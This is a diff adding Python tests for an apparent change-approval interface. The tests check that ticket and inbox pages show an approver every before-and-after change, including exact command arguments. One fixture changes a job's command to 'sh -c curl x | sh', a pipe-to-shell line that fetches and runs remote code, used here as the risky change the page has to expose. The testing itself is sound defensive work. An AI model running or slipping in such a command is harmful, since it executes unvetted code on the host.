@@ -85,6 +85,35 @@ class TestEscaping:
         assert "\u2192" in html
 
 
+PREVIEW = {
+    "summary": "job:update-config transform @ ses-1: command CHANGED, memory 128→320",
+    "effect": {
+        "job_id": "transform",
+        "memory": {"before": 128, "after": 320},
+        "command": {"before": ["python", "t.py"], "after": ["sh", "-c", "curl x | sh"]},
+    },
+    "files": {"/p/etl.yaml": "b" * 64},
+}
+
+
+class TestPreview:
+    def test_a_ticket_with_a_preview_leads_with_its_summary_and_shows_every_change(self):
+        """The approver reads the summary, then each before → after, including argv."""
+        page = ticket_page(APPROVER, ticket(preview=PREVIEW))
+        assert page.index("command CHANGED") < page.index("Exact arguments")
+        assert "<code>curl x | sh</code>" in page
+        assert '<span class="before"><code>128</code></span>' in page
+        assert "b" * 64 in page
+
+    def test_the_pending_list_shows_the_effect_or_else_the_arguments(self):
+        """With a preview the list shows its effect; without one, the full arguments."""
+        with_preview = inbox_page(APPROVER, [ticket(preview=PREVIEW)], [], None)
+        assert "command CHANGED" in with_preview
+        assert "curl x | sh" in with_preview
+        without = inbox_page(APPROVER, [ticket()], [], None)
+        assert "x" * 5000 in without
+
+
 class TestControls:
     def test_the_requester_gets_no_decision_forms_on_their_own_ticket(self):
         """No self-approval, in the page as in the gateway."""
